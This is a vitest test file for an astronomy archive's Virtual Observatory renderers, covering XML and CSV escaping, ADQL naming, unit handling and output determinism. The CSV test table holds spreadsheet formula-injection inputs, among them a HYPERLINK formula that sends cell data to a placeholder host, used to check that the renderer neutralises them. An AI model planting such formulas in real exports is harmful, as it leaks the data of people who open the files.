// The Virtual Observatory renderers as pure functions: escaping for XML and CSV, the archive's
// "none" spellings, coordinates in degrees, ADQL names (regular where safe, delimited otherwise, never
// two alike), the URL marks, determinism, and the listings' own UCDs and units. The real VO tools
// read whole documents in vo.e2e.test.ts.

import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { generateArchive } from '../bench/synthetic.ts';
import type { FacilityYaml, GroupYaml, ProductFacilityYaml } from '../src/kinds/data.ts';
import { nodeObject } from '../src/outputs/api/objects.ts';
import type { ApiObject } from '../src/outputs/api/objects.ts';
import * as vo from '../src/outputs/vo/index.ts';
import { COLUMNS, PRODUCTS, REGIONS, extnameText } from '../src/outputs/vo/listings.ts';
import { isRegularIdentifier } from '../src/outputs/vo/names.ts';
import { degreesText, descriptionText, ucdText, unitText } from '../src/outputs/vo/text.ts';
import { ucdSyntaxProblem, ucdWordProblems } from '../src/vocabularies/ucd.ts';
import { unitProblem } from '../src/vocabularies/vounit.ts';
import { BUNDLED, FIXTURE } from './helpers.ts';
import { PRODUCT_FILES, SAMI } from './products-fixture.ts';

const DATES = { created: '2020-01-01T00:00:00Z', updated: '2020-01-02T00:00:00Z' };
const PLACE = { survey: 'gama', release: 'dr2' };

/** A group's API object from its tables, each table a name and column names. */
function group(name: string, tables: Record<string, string[]>): ApiObject {
  let id = 1;
  const data = {
    id: id++,
    name,
    ...DATES,
    tables: Object.entries(tables).map(([table, columns]) => ({
      id: id++,
      name: table,
      columns: columns.map((column) => ({ id: id++, name: column })),
    })),
  };
  return nodeObject('CatalogueGroup', data, [PLACE.survey, PLACE.release]);
}

const tables = (g: ApiObject) => g.tables as ApiObject[];

/**
 * A deep copy of an API object that keeps what it carries beyond the API (a column's type, under a
 * symbol key), which structuredClone leaves out.
 */
function copy<T>(value: T): T {
  if (Array.isArray(value)) return value.map(copy) as T;
  if (value === null || typeof value !== 'object') return value;
  const out: Record<string | symbol, unknown> = {};
  for (const key of Reflect.ownKeys(value)) out[key] = copy((value as Record<string | symbol, unknown>)[key]);
  return out as T;
}

describe('xmlText makes any text XML 1.0 character data, in elements and attributes alike', () => {
  test.each([
    ['plain text', 'plain text'],
    ['a<b>&c"d\'e', "a&lt;b&gt;&amp;c&quot;d'e"],
    [']]>', ']]&gt;'],
    ['tab\tLF\nCR\r', 'tab&#9;LF&#10;CR&#13;'],
    ['\x00\x01\x08\x0B\x0C\x0E\x1F', '\uFFFD'.repeat(7)],
    ['\uFFFE\uFFFF', '\uFFFD\uFFFD'],
    ['lone \uD800 and \uDC00', 'lone \uFFFD and \uFFFD'],
    ['🔭 שלום e\u0301 \x7F\x85\u2028\uFEFF', '🔭 שלום e\u0301 \x7F\x85\u2028\uFEFF'],
  ])('%j → %j', (text, expected) => {
    expect(vo.xmlText(text)).toBe(expected);
  });

  test('every UTF-16 code unit comes out as characters XML 1.0 allows, never markup', () => {
    const xmlChar = /^(?:[\t\n\r\x20-\uD7FF\uE000-\uFFFD]|[\uD800-\uDBFF][\uDC00-\uDFFF])*$/;
    for (let unit = 0; unit <= 0xffff; unit++) {
      const out = vo.xmlText(`a${String.fromCharCode(unit)}b`);
      expect(xmlChar.test(out), `U+${unit.toString(16)}`).toBe(true);
      expect(/[<>"\t\n\r]|&(?!(?:amp|lt|gt|quot|#9|#10|#13);)/.test(out), `U+${unit.toString(16)}`).toBe(false);
    }
  });
});

describe('csvField quotes what RFC 4180 and line-splitting readers need quoted, and puts a quote before what a spreadsheet would run', () => {
  test.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['a\r\nb', '"a\r\nb"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    ['line\u2028separator', '"line\u2028separator"'],
    ['next\x85line', '"next\x85line"'],
    ['form\ffeed', '"form\ffeed"'],
    [' padded', '" padded"'],
    ['padded ', '"padded "'],
    ['inner space', 'inner space'],
    ['ctl\x01\x1f', 'ctl\x01\x1f'],
    ['=SUM(A1)', `"'=SUM(A1)"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    [' =1', `"' =1"`],
    ['=HYPERLINK("http://x/?"&A1,"c")', `"'=HYPERLINK(""http://x/?""&A1,""c"")"`],
    ['a=b', 'a=b'],
    ['-1.5', '-1.5'],
    ['+5', '+5'],
    ['-.5', '-.5'],
    ['-1e-7', '-1e-7'],
    ['1e+21', '1e+21'],
    ['-', '-'],
    ['--', `"'--"`],
    ['-Infinity', `"'-Infinity"`],
    ['🔭 שלום', '🔭 שלום'],
  ])('%j → %j', (text, expected) => {
    expect(vo.csvField(text)).toBe(expected);
  });
});

describe("the archive's spellings of none are empty", () => {
  test.each([
    ['-', ''],
    ['None', ''],
    ['none', ''],
    [' - ', ''],
    ['n/a', ''],
    ['dimensionless', ''],
    ['deg', 'deg'],
    ['km s-1', 'km s-1'],
    ['unknown', 'unknown'],
    [undefined, ''],
  ])('unit %j → %j', (unit, expected) => {
    expect(unitText(unit)).toBe(expected);
  });

  test.each([
    ['-', ''],
    ['None', ''],
    ['pos.eq.ra;meta.main', 'pos.eq.ra;meta.main'],
    [undefined, ''],
  ])('UCD %j → %j', (ucd, expected) => {
    expect(ucdText(ucd)).toBe(expected);
  });

  test.each([
    [null, null],
    ['', null],
    ['-', null],
    [' - ', null],
    ['Right ascension', 'Right ascension'],
    ['  kept as written  ', '  kept as written  '],
  ])('description %j → %j', (description, expected) => {
    expect(descriptionText(description)).toBe(expected);
  });
});

describe('region centres are numbers in degrees where the unit allows', () => {
  test.each([
    ['135.0', 'deg', '135.0'],
    ['-0.50', 'deg', '-0.50'],
    ['+5', 'deg', '+5'],
    ['.5', 'degrees', '.5'],
    ['3600', 'arcsec', '1'],
    ['90', 'arcmin', '1.5'],
    ['3600000', 'mas', '1'],
    ['1', 'rad', String(180 / Math.PI)],
    ['9', 'h', null],
    ['9', 'hms', null],
  ])('%s %s → %s', (value, unit, expected) => {
    expect(degreesText(value, unit)).toBe(expected);
  });
});

describe('ADQL names', () => {
  test.each([
    [{ survey: 'gama', release: 'dr2' }, 'gama_dr2'],
    [{ survey: 'gama', release: 'dr4_1' }, 'gama_dr4_1'],
    [{ survey: 'sami', release: '3' }, 'sami_3'],
    // A reserved word once joined (CURRENT_DATE), a name ADQL cannot read, names that could join two ways.
    [{ survey: 'current', release: 'date' }, '"current/date"'],
    [{ survey: 'gama-legacy', release: 'dr1' }, '"gama-legacy/dr1"'],
    [{ survey: '2df', release: 'dr1' }, '"2df/dr1"'],
    [{ survey: 'a_b', release: 'c' }, '"a_b/c"'],
    [{ survey: 'a', release: 'b_c' }, 'a_b_c'],
    [{ survey: 'gama', release: 'dr-2' }, '"gama/dr-2"'],
  ])('schema of %j: %s', (place, expected) => {
    expect(vo.schemaName(place)).toBe(expected);
  });

  test.each([
    [
      'SpecCat',
      ['SpecObj', 'Spec_Lines', '_private'],
      ['gama_dr2.SpecCat_SpecObj', 'gama_dr2.SpecCat_Spec_Lines', 'gama_dr2.SpecCat__private'],
    ],
    // Case twins: ADQL would read both regular names as one.
    ['SpecCat', ['Spec', 'spec', 'Other'], ['gama_dr2."SpecCat/Spec"', 'gama_dr2."SpecCat/spec"', 'gama_dr2.SpecCat_Other']],
    // A group name with '_' or '-', or starting with a digit, would make the join ambiguous or irregular.
    ['Spec_Cat', ['Obj'], ['gama_dr2."Spec_Cat/Obj"']],
    ['Spec-Cat', ['Obj'], ['gama_dr2."Spec-Cat/Obj"']],
    ['2dF', ['Obj'], ['gama_dr2."2dF/Obj"']],
    ['SpecCat', ['Obj-2'], ['gama_dr2."SpecCat/Obj-2"']],
    // CURRENT_TIME is reserved.
    ['current', ['time'], ['gama_dr2."current/time"']],
  ])('tables of group %s %j: %j', (groupName, tableNames, expected) => {
    const g = group(groupName, Object.fromEntries(tableNames.map((t) => [t, []])));
    expect(vo.tableNames(PLACE, g)).toEqual(expected);
    expect(tables(g).map((t) => vo.tableName(PLACE, g, t))).toEqual(expected);
  });

  test.each([
    [
      ['RA', 'DEC', 'Z_HELIO', 'flux2'],
      ['RA', 'DEC', 'Z_HELIO', 'flux2'],
    ],
    [
      ['size', 'SELECT', 'date', 'ok'],
      ['"size"', '"SELECT"', '"date"', 'ok'],
    ],
    [
      ['RA', 'ra', 'Ra2'],
      ['"RA"', '"ra"', 'Ra2'],
    ],
    [
      ['flux (Jy)', 'say "hi"', '日本語', '_x', '1st'],
      ['"flux (Jy)"', '"say ""hi"""', '"日本語"', '"_x"', '"1st"'],
    ],
  ])('columns %j: %j', (columnNames, expected) => {
    const g = group('G', { T: columnNames });
    const [table] = tables(g);
    if (!table) throw new Error('no table');
    expect(vo.columnNames(table)).toEqual(expected);
    expect((table.columns as ApiObject[]).map((c) => vo.columnName(table, c))).toEqual(expected);
  });
});

// ---- Properties over real and synthetic archives --------------------------------------------------------

interface Unit {
  place: { survey: string; release: string };
  api: ApiObject;
}

/** The groups and facilities of an archive given as relative path → YAML text. */
function unitsOf(files: Map<string, string>): { groups: Unit[]; facilities: Unit[]; products: Unit[] } {
  const groups: Unit[] = [];
  const facilities: Unit[] = [];
  /** IFS and spectra facilities. */
  const products: Unit[] = [];
  for (const [relative, text] of [...files].sort(([a], [b]) => (a < b ? -1 : 1))) {
    const [survey = '', release = '', folder, file] = relative.split('/');
    if (file === undefined) continue;
    const place = { survey, release };
    if (folder === 'catalogues') groups.push({ place, api: nodeObject('CatalogueGroup', parse(text) as GroupYaml, [survey, release]) });
    if (folder === 'imaging')
      facilities.push({ place, api: nodeObject('ImagingFacility', parse(text) as FacilityYaml, [survey, release]) });
    const productKind = folder === 'ifs' ? 'IFSFacility' : folder === 'spectra' ? 'SpectraFacility' : undefined;
    if (productKind) products.push({ place, api: nodeObject(productKind, parse(text) as ProductFacilityYaml, [survey, release]) });
  }
  return { groups, facilities, products };
}

function filesOf(root: string): Map<string, string> {
  const files = new Map<string, string>();
  for (const entry of readdirSync(root, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !entry.name.endsWith('.yaml')) continue;
    const full = path.join(entry.parentPath, entry.name);
    files.set(path.relative(root, full).split(path.sep).join('/'), readFileSync(full, 'utf8'));
  }
  return files;
}

const ARCHIVES = {
  fixture: unitsOf(filesOf(FIXTURE)),
  'fixture with IFS and spectra': unitsOf(new Map([...filesOf(FIXTURE), ...Object.entries(PRODUCT_FILES)])),
  bundled: unitsOf(filesOf(BUNDLED)),
  'synthetic S': unitsOf(generateArchive('S')),
};

/** How ADQL tells identifiers apart: regular ones without regard to case, delimited ones exactly. */
const adqlKey = (name: string) => (name.startsWith('"') ? name : name.toLowerCase());
const DELIMITED = /^"(?:[^"]|"")+"$/;

describe.each(Object.entries(ARCHIVES))('%s archive', (_, { groups, facilities, products }) => {
  test('schema and table names are valid ADQL, and no two tables of the archive read alike', () => {
    const seen = new Set<string>();
    for (const { place, api } of groups) {
      for (const name of vo.tableNames(place, api)) {
        const [schema, table] = name.startsWith('"') ? (/^("(?:[^"]|"")+")\.(.+)$/.exec(name)?.slice(1) ?? []) : name.split(/\.(.*)/s);
        expect(schema && (isRegularIdentifier(schema) || DELIMITED.test(schema)), name).toBe(true);
        expect(table && (isRegularIdentifier(table) || DELIMITED.test(table)), name).toBe(true);
        const key = `${adqlKey(schema ?? '')}.${adqlKey(table ?? '')}`;
        expect(seen.has(key), name).toBe(false);
        seen.add(key);
      }
    }
  });

  test('column names are valid ADQL, and no two columns of a table read alike', () => {
    for (const { api } of groups) {
      for (const table of tables(api)) {
        const names = vo.columnNames(table);
        for (const name of names) expect(isRegularIdentifier(name) || DELIMITED.test(name), name).toBe(true);
        expect(new Set(names.map(adqlKey)).size).toBe(names.length);
      }
    }
  });

  test('every row of columns, regions and products holds one NUL, for its survey URL; nothing else holds any', () => {
    const nuls = (text: string) => text.split('\0').length - 1;
    for (const { place, api } of groups) {
      const rows = tables(api).reduce((n, t) => n + (t.columns as unknown[]).length, 0);
      expect(nuls(vo.columnsCsvRows(api, place))).toBe(rows);
      expect(nuls(vo.columnsVotRows(api, place))).toBe(rows);
      expect(nuls(vo.tapTableRows(api, place) + vo.tapColumnRows(api, place) + vo.tablesetGroupTables(api, place))).toBe(0);
    }
    for (const { place, api } of facilities) {
      const rows = (api.bands as ApiObject[]).reduce((n, b) => n + (b.regions as unknown[]).length, 0);
      expect(nuls(vo.regionsCsvRows(api, place))).toBe(rows);
      expect(nuls(vo.regionsVotRows(api, place))).toBe(rows);
    }
    for (const { place, api } of products) {
      const rows = (api.products as unknown[]).length;
      expect(nuls(vo.productsCsvRows(api, place))).toBe(rows);
      expect(nuls(vo.productsVotRows(api, place))).toBe(rows);
    }
  });

  test('rows are the same for the same group or facility, however often and from whichever copy', () => {
    for (const { place, api } of groups) {
      const again = copy(api);
      expect(vo.columnsCsvRows(again, { ...place })).toBe(vo.columnsCsvRows(api, place));
      expect(vo.columnsVotRows(again, { ...place })).toBe(vo.columnsVotRows(api, place));
      expect(vo.tapColumnRows(again, { ...place })).toBe(vo.tapColumnRows(api, place));
      expect(vo.tablesetGroupTables(again, { ...place })).toBe(vo.tablesetGroupTables(api, place));
    }
    for (const { place, api } of facilities) {
      expect(vo.regionsVotRows(copy(api), place)).toBe(vo.regionsVotRows(api, place));
    }
    for (const { place, api } of products) {
      expect(vo.productsCsvRows(copy(api), { ...place })).toBe(vo.productsCsvRows(api, place));
      expect(vo.productsVotRows(copy(api), { ...place })).toBe(vo.productsVotRows(api, place));
    }
  });
});

test('heads and tails hold no NUL and end their lines', () => {
  const release = { pretty_name: 'Data Release 2' };
  const pieces = [
    vo.columnsCsvHeader(),
    vo.regionsCsvHeader(),
    vo.columnsVotHead(),
    vo.columnsVotTail(),
    vo.regionsVotHead(),
    vo.regionsVotTail(),
    vo.productsCsvHeader(),
    vo.productsVotHead(),
    vo.productsVotTail(),
    vo.tapSchemaHead(),
    vo.tapSchemaRow(PLACE, release, 1),
    vo.tapTablesHead(),
    vo.tapColumnsHead(),
    vo.tapSchemaTail(),
    vo.tablesetHead(),
    vo.tablesetSchemaOpen(PLACE, release),
    vo.tablesetSchemaClose(),
    vo.tablesetEmptySchema(),
    vo.tablesetTail(),
  ];
  for (const piece of pieces) {
    expect(piece).not.toContain('\0');
    expect(piece.endsWith('\n')).toBe(true);
  }
  expect(vo.columnsCsvHeader()).toBe(
    'survey,release,group,group_id,table,table_id,column,column_id,description,ucd,unit,datatype,arraysize,principal,survey_url\r\n',
  );
  expect(vo.regionsCsvHeader()).toBe(
    'survey,release,facility,facility_id,band,band_id,central_wave_ang,region,region_id,ra_c,dec_c,frame,equinox,survey_url\r\n',
  );
  expect(vo.productsCsvHeader()).toBe(
    'survey,release,data_type,facility,facility_id,product,product_id,product_key,product_type,arm,' +
      'wave_min_ang,wave_max_ang,wave_step_ang,resolving_power,spatial_sampling_arcsec,dimensions,flux_unit,extensions,description,survey_url\r\n',
  );
});

describe("a column's VOTable type", () => {
  const columns = [
    { id: 3, name: 'CATAID', ucd: 'meta.id;meta.main', datatype: 'long' },
    { id: 4, name: 'SURVEY', datatype: 'char', arraysize: '32*' },
    { id: 5, name: 'FLAGS', datatype: 'short', arraysize: '3x4' },
    { id: 6, name: 'NOTE', description: 'Not typed' },
    { id: 7, name: 'RA', ucd: 'pos.eq.ra;meta.main', unit: 'deg', datatype: 'double', principal: false },
    { id: 8, name: 'Z', datatype: 'float', principal: true },
    // As YAML reads arraysize: 16.
    { id: 9, name: 'NAME', datatype: 'char', arraysize: 16 },
  ];
  const data = (cs: object[]) => ({ id: 1, name: 'SpecCat', ...DATES, tables: [{ id: 2, name: 'SpecObj', columns: cs }] });
  const typed = nodeObject('CatalogueGroup', data(columns), [PLACE.survey, PLACE.release]);

  test("gives TAP_SCHEMA.columns the datatype, arraysize, size and principal; leaves out a column without a datatype, keeping the others' places", () => {
    const row = (
      name: string,
      datatype: string,
      arraysize: string | null,
      size: string | null,
      rest: string,
      principal: string,
      index: number,
    ) =>
      `<TR><TD>gama_dr2.SpecCat_SpecObj</TD><TD>${name}</TD><TD>${datatype}</TD>${arraysize === null ? '<TD/>' : `<TD>${arraysize}</TD>`}<TD/>` +
      `${size === null ? '<TD/>' : `<TD>${size}</TD>`}${rest}<TD>0</TD><TD>${principal}</TD><TD>0</TD><TD>${index}</TD></TR>\n`;
    expect(vo.tapColumnRows(typed, PLACE)).toBe(
      row('CATAID', 'long', null, null, '<TD/><TD/><TD/><TD>meta.id;meta.main</TD>', '1', 1) +
        row('SURVEY', 'char', '32*', '32', '<TD/><TD/><TD/><TD/>', '0', 2) +
        row('FLAGS', 'short', '3x4', null, '<TD/><TD/><TD/><TD/>', '0', 3) +
        row('RA', 'double', null, null, '<TD/><TD/><TD>deg</TD><TD>pos.eq.ra;meta.main</TD>', '0', 5) +
        row('Z', 'float', null, null, '<TD/><TD/><TD/><TD/>', '1', 6) +
        row('NAME', 'char', '16', '16', '<TD/><TD/><TD/><TD/>', '0', 7),
    );
  });

  test('gives columns.csv and columns.vot the datatype, arraysize and principal of every column, empty where not recorded', () => {
    const cells = vo
      .columnsCsvRows(typed, PLACE)
      .split('\r\n')
      .filter(Boolean)
      .map((line) => line.split(',').slice(11, 14));
    expect(cells).toEqual([
      ['long', '', 'true'],
      ['char', '32*', 'false'],
      ['short', '3x4', 'false'],
      ['', '', 'false'],
      ['double', '', 'false'],
      ['float', '', 'true'],
      ['char', '16', 'false'],
    ]);
    expect(vo.columnsVotRows(typed, PLACE)).toContain('<TD>Not typed</TD><TD/><TD/><TD/><TD/><TD>false</TD><TD>\0</TD>');
    expect(COLUMNS.fields.map((f) => [f.name, f.datatype]).slice(11, 14)).toEqual([
      ['datatype', 'char'],
      ['arraysize', 'char'],
      ['principal', 'boolean'],
    ]);
  });

  test('gives the tableset a vs:VOTableType dataType after the ucd, with its arraysize, and none where not recorded', () => {
    const tables = vo.tablesetGroupTables(typed, PLACE);
    expect(tables).toContain(
      '        <name>CATAID</name>\n        <ucd>meta.id;meta.main</ucd>\n        <dataType xsi:type="vs:VOTableType">long</dataType>\n      </column>',
    );
    expect(tables).toContain('<dataType xsi:type="vs:VOTableType" arraysize="3x4">short</dataType>');
    expect(tables).toContain('        <name>NOTE</name>\n        <description>Not typed</description>\n      </column>');
    expect(tables.match(/<dataType /g)).toHaveLength(6);
  });

  test("stays out of the API: the group's JSON is the same with the types and without", () => {
    const untyped = columns.map((c) =>
      Object.fromEntries(Object.entries(c).filter(([key]) => !['datatype', 'arraysize', 'principal'].includes(key))),
    );
    const plain = nodeObject('CatalogueGroup', data(untyped), [PLACE.survey, PLACE.release]);
    expect(JSON.stringify(typed)).toBe(JSON.stringify(plain));
    expect(JSON.stringify(typed)).not.toMatch(/datatype|arraysize|principal/);
  });
});

describe("a product's row", () => {
  const sami = nodeObject('IFSFacility', parse(SAMI) as ProductFacilityYaml, ['alpha', 'dr2']);
  const place = { survey: 'alpha', release: 'dr2' };
  // Each product alone: the cube's description holds line breaks.
  const alone = (i: number): ApiObject => ({ ...sami, products: [(sami.products as ApiObject[])[i]] });
  const [cube, map] = [0, 1].map((i) => vo.productsCsvRows(alone(i), place));

  test('gives dimensions as 50x50x2048 in CSV, as an array in TABLEDATA, and extensions as their names', () => {
    expect(cube).toMatch(
      /^alpha,dr2,ifs,sami,4,cube_blue,11,alpha\.dr2\.sami\.cube_blue,cube,blue,3750,5750,1\.04,1812\.5,0\.5,50x50x2048,/,
    );
    expect(cube).toContain(',PRIMARY VARIANCE WEIGHT,');
    expect(vo.productsVotRows(sami, place)).toContain('<TD>0.5</TD><TD>50 50 2048</TD>');
    expect(PRODUCTS.fields.find((f) => f.name === 'dimensions')).toMatchObject({ datatype: 'long', array: true });
  });

  test("leaves empty what a map does not have, and the archive's spellings of none", () => {
    // stelkin_velocity: no arm, no wavelengths, no resolving power, no extensions, description '-'.
    expect(map).toBe('alpha,dr2,ifs,sami,4,stelkin_velocity,12,alpha.dr2.sami.stelkin_velocity,map,,,,,,0.5,50x50,km/s,,,\0\r\n');
    expect(vo.productsVotRows(alone(1), place)).toBe(
      '<TR><TD>alpha</TD><TD>dr2</TD><TD>ifs</TD><TD>sami</TD><TD>4</TD><TD>stelkin_velocity</TD><TD>12</TD>' +
        '<TD>alpha.dr2.sami.stelkin_velocity</TD><TD>map</TD><TD/><TD/><TD/><TD/><TD/><TD>0.5</TD><TD>50 50</TD><TD>km/s</TD>' +
        '<TD/><TD/><TD>\0</TD></TR>\n',
    );
  });

  test.each([
    ['PRIMARY', 'PRIMARY'],
    ['input_sigma', 'input_sigma'],
    ['normalised spectra', "'normalised spectra'"],
    ["sky's", "'sky''s'"],
    ["'quoted'", "'''quoted'''"],
    ['tab\there', "'tab\there'"],
    ['', "''"],
  ])('writes the EXTNAME %j as %j', (name, text) => {
    expect(extnameText(name)).toBe(text);
  });

  test('gives a list of EXTNAMEs that reads back as FITS reads strings, whatever the names', () => {
    /** Names separated by spaces; a quoted one runs to its closing quote, '' standing for a quote. */
    const read = (text: string): string[] =>
      [...text.matchAll(/'((?:[^']|'')*)'|[^ ']+/g)].map((m) => (m[1] === undefined ? m[0] : m[1].replaceAll("''", "'")));
    const names = ['PRIMARY', 'normalised spectra', "sky's", "'", "''", ' x', 'a  b', 'VAR', '', "it's a 'b'"];
    for (const a of names) {
      for (const b of names) {
        for (const c of ['WEIGHT', "o'k"]) expect(read([a, b, c].map(extnameText).join(' '))).toEqual([a, b, c]);
      }
    }
  });

  test('says ifs or spectra after the kind of its facility', () => {
    const spectra = nodeObject('SpectraFacility', parse(SAMI) as ProductFacilityYaml, ['alpha', 'dr2']);
    expect(vo.productsCsvRows(spectra, place)).toMatch(/^alpha,dr2,spectra,sami,/);
  });
});

test("a release's schema is titled and described from the survey's and release's display names", () => {
  const survey = { pretty_name: 'GAMA', title: 'Galaxy And Mass Assembly' };
  const release = { pretty_name: 'Data Release 2' };
  expect(vo.tablesetSchemaOpen(PLACE, release, survey)).toBe(
    '  <schema>\n    <name>gama_dr2</name>\n    <title>GAMA Data Release 2</title>\n' +
      '    <description>Catalogue tables of Galaxy And Mass Assembly (GAMA), Data Release 2.</description>\n',
  );
  expect(vo.tapSchemaRow(PLACE, release, 3)).toBe(
    '<TR><TD>gama_dr2</TD><TD/><TD>Catalogue tables of gama, Data Release 2.</TD><TD>3</TD></TR>\n',
  );
});

test.each([...COLUMNS.fields, ...REGIONS.fields, ...PRODUCTS.fields].map((f) => [f.name, f] as const))(
  'the listing field %s has a UCD and unit the vocabularies accept',
  (_, field) => {
    expect(field.ucd && ucdSyntaxProblem(field.ucd)).toBeUndefined();
    expect(ucdWordProblems(field.ucd ?? '-')).toEqual([]);
    if (field.unit) expect(unitProblem(field.unit)).toBeUndefined();
  },
);
